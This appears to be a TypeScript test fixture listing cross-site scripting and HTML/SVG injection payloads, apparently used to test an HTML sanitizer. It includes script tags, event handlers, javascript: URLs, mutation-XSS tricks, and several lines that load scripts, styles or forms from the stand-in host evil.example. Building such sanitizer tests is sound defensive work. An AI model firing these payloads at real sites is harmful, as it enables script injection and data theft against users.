/** HTML and SVG that tries to become code, to load from elsewhere or to break out of where it stands. */
export const attacks: readonly string[] = [
  '<script>alert(1)</script>', '<SCRIPT SRC=//evil.example/x.js></SCRIPT>', '<img src=x onerror=alert(1)>', '<img src="javascript:alert(1)">', '<svg onload=alert(1)>', '<svg><script>alert(1)</script></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>', '<iframe src="javascript:alert(1)">', '<iframe srcdoc="<script>alert(1)</script>"></iframe>', '<object data="data:text/html,x"></object>', '<embed src="x">',
  '<a href="javascript:alert(1)">x</a>', '<a href=" jav&#x09;ascript:alert(1)">x</a>', '<a href="&#106;avascript:alert(1)">x</a>', '<a href="data:text/html;base64,PHN2Zz4=">x</a>', '<a href="vbscript:x">x</a>', '<a href="//evil.example">x</a>',
  '<p onclick="alert(1)">x</p>', '<p style="background:url(javascript:alert(1))">x</p>', '<b onmouseover=alert(1)//>', '<style>@import "//evil.example"</style>', '<link rel=stylesheet href=//evil.example>', '<meta http-equiv=refresh content="0;url=//evil.example">',
  '<base href="//evil.example/">', '<form action="//evil.example"><input name=x></form>', '<button formaction="javascript:alert(1)">x</button>', '<template><img src=x onerror=alert(1)></template>', '<noscript><p title="</noscript><img src=x onerror=alert(1)>">', '<img src="//evil.example/pixel.gif">',
  '<img src="https://evil.example/pixel.gif">', '<video><source onerror="alert(1)"></video>', '<details open ontoggle=alert(1)>', '<!--<img src="--><img src=x onerror=alert(1)//">', '<![CDATA[<script>alert(1)</script>]]>', '<x onfocus=alert(1) autofocus tabindex=1>', '<a href="https://a.example" target="_blank">x</a>',
]
